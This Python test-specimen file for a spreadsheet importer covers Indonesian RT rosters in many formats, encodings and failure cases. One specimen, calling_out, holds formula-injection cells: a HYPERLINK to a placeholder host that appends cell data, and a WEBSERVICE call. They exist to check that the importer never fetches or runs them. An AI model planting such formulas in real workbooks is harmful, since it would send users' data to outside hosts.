"""Every form of file that agencies send, whatever its name says (and some that nobody should)."""

from functools import partial

from tests.specimens.files import ods, text, xls, xlsm, xlsx
from tests.specimens.model import Specimen


HEADER = ("kecamatan", "kelurahan", "rt", "ketua_rt", "jumlah_kk", "tahun")
ROWS = (
    HEADER,
    ("Alam Barajo", "Rawa Sari", "001", "José Álvarez", 88, 2020),
    ("Alam Barajo", "Rawa Sari", 2, "Siti – Aminah", 112, 2020),
)
STORED = {
    "Rawa Sari 001 2020": 88,
    "Rawa Sari 001": "José Álvarez",
    "Rawa Sari 002 2020": 112,
    "Rawa Sari 002": "Siti – Aminah",
}
TWO = {"kind": "roster", "rows": (2, 0, 0, 0), "stored": STORED}
SHORT = (("kelurahan", "rt", "jumlah_kk", "tahun"), ("Rawa Sari", 1, 88, 2020), ("Rawa Sari", 2, 112, 2020))
OLD = (("kelurahan", "rt", "jumlah_kk", "tahun"), ("Rawa Sari", 1, 70, 2019))
ONLY_KK = {"Rawa Sari 001 2020": 88, "Rawa Sari 002 2020": 112}


def formulas(*, stored: bool) -> bytes:
    rows = (*SHORT[:1], ("Rawa Sari", 1, "=40+48", 2020), ("Rawa Sari", 2, "=SUM(100,12)", "=2019+1"))
    return xlsx(rows, results={"C2": 88, "C3": 112, "D3": 2020} if stored else {"C2": 88, "D3": 2020})


def failed_formula() -> bytes:
    def fail(sheet):
        sheet["C3"].data_type, sheet["C3"].value = "e", "#REF!"

    return xlsx(SHORT, change=fail)


def locked() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


def calling_out() -> bytes:
    """Formulas that would fetch or run something in the program that opens them."""
    rows = (
        HEADER,
        ("Alam Barajo", "Rawa Sari", 1, '=HYPERLINK("http://example.invalid/?"&A2,"Ani")', 88, 2020),
        ("Alam Barajo", "Rawa Sari", 2, "=WEBSERVICE(A1)", 112, 2020),
    )
    return xlsx(rows, results={"D2": "0", "D3": "0"})


FORMS = [
    Specimen(name="xlsx", about="a workbook", file="rt.xlsx", data=partial(xlsx, ROWS), **TWO),
    Specimen(name="xlsm", about="macros are ignored", file="rt.xlsm", data=partial(xlsm, ROWS), **TWO),
    Specimen(name="xls", about="the old binary format", file="rt.xls", data=partial(xls, {"RT": ROWS}), **TWO),
    Specimen(name="ods", about="OpenDocument", file="rt.ods", data=partial(ods, ROWS), **TWO),
    Specimen(name="csv-comma", about="comma, UTF-8", file="rt.csv", data=partial(text, ROWS), **TWO),
    Specimen(
        name="csv-semicolon",
        about="semicolon, Windows-1252, as an Indonesian Excel saves it",
        file="rt.csv",
        data=partial(text, ROWS, delimiter=";", encoding="cp1252"),
        **TWO,
    ),
    Specimen(
        name="csv-bom",
        about="UTF-8 with a byte order mark and the delimiter named",
        file="rt.csv",
        data=partial(text, ROWS, delimiter=";", encoding="utf-8-sig", before="sep=;\r\n"),
        **TWO,
    ),
    Specimen(
        name="tsv",
        about="tabs, line ends of Unix",
        file="rt.tsv",
        data=partial(text, ROWS, delimiter="\t", end="\n"),
        **TWO,
    ),
    Specimen(
        name="utf-16",
        about="what Excel calls Unicode text",
        file="rt.txt",
        data=partial(text, ROWS, delimiter="\t", encoding="utf-16"),
        **TWO,
    ),
    Specimen(
        name="utf-16-be",
        about="the other byte order, without a mark",
        file="rt.txt",
        data=partial(text, ROWS, encoding="utf-16-be"),
        **TWO,
    ),
    Specimen(
        name="wrong-name",
        about="a file is read as what it is",
        file="rt.csv",
        data=partial(xlsx, ROWS),
        **TWO,
    ),
    Specimen(
        name="hidden-sheet",
        about="a hidden sheet is named and not read",
        file="rt.xlsx",
        data=partial(xlsx, ROWS, others={"Lama": OLD}, hidden=["Lama"]),
        problems=("warning hidden_sheet",),
        **TWO,
    ),
    Specimen(
        name="hidden-sheet-xls",
        about="also in the old format",
        file="rt.xls",
        data=partial(xls, {"RT": ROWS, "Lama": OLD}, hidden=["Lama"]),
        problems=("warning hidden_sheet",),
        **TWO,
    ),
    Specimen(
        name="only-hidden",
        about="a table on a hidden sheet alone is not read unasked",
        kind="roster",
        file="rt.xlsx",
        data=partial(xlsx, (("Lihat lampiran",),), others={"Data": OLD}, hidden=["Data"], title="Depan"),
        problems=("error hidden_sheet",),
        code=1,
    ),
    Specimen(
        name="hidden-asked-for",
        about="a hidden sheet is read when asked for by name",
        kind="roster",
        file="rt.xlsx",
        data=partial(xlsx, ROWS, others={"Lama": OLD}, hidden=["Lama"]),
        sheet="Lama",
        rows=(1, 0, 0, 0),
        stored={"Rawa Sari 001 2019": 70},
    ),
    Specimen(
        name="several-sheets",
        about="several sheets of the kind: a person says which",
        kind="roster",
        file="rt.xlsx",
        data=partial(xlsx, ROWS, title="2020", others={"2019": OLD, "Catatan": (("lain-lain",),)}),
        problems=("error several_sheets",),
        code=1,
    ),
    Specimen(
        name="sheet-asked-for",
        about="the sheet is chosen by its name, case aside",
        file="rt.xlsx",
        data=partial(xlsx, ROWS, title="Tahun 2020", others={"Tahun 2019": OLD}),
        sheet="tahun 2020",
        **TWO,
    ),
    Specimen(
        name="sheet-not-there",
        about="a sheet that is not there is answered with those that are",
        kind="roster",
        file="rt.xlsx",
        data=partial(xlsx, ROWS),
        sheet="2021",
        problems=("error sheet_not_found",),
        code=2,
    ),
    Specimen(
        name="formulas",
        about="formulas count by their stored value",
        kind="roster",
        file="rt.xlsx",
        data=partial(formulas, stored=True),
        rows=(2, 0, 0, 0),
        stored=ONLY_KK,
    ),
    Specimen(
        name="formula-without-value",
        about="a formula without a stored value is named",
        kind="roster",
        file="rt.xlsx",
        data=partial(formulas, stored=False),
        rows=(1, 0, 0, 1),
        problems=("error formula_without_value C3",),
        code=1,
    ),
    Specimen(
        name="failed-formula",
        about="so is an error such as #REF!",
        kind="roster",
        file="rt.xlsx",
        data=failed_formula,
        rows=(1, 0, 0, 1),
        problems=("error formula_without_value C3",),
        code=1,
    ),
    Specimen(
        name="formulas-that-call-out",
        about="nothing that a formula names is fetched or run",
        kind="roster",
        file="rt.xlsx",
        data=calling_out,
        rows=(2, 0, 0, 0),
        stored={"Rawa Sari 001 2020": 88},
    ),
    Specimen(
        name="password",
        about="a protected file is refused in one sentence",
        kind="roster",
        file="rt.xlsx",
        data=locked,
        problems=("error encrypted",),
        code=2,
    ),
    Specimen(
        name="a-pdf",
        about="a PDF called xlsx is refused",
        kind="roster",
        file="rt.xlsx",
        data=lambda: b"%PDF-1.7\n%rest",
        problems=("error other_type",),
        code=2,
    ),
    Specimen(
        name="cut-short",
        about="a file cut short on its way",
        kind="roster",
        file="rt.xlsx",
        data=lambda: xlsx(ROWS)[:3000],
        problems=("error damaged",),
        code=2,
    ),
]
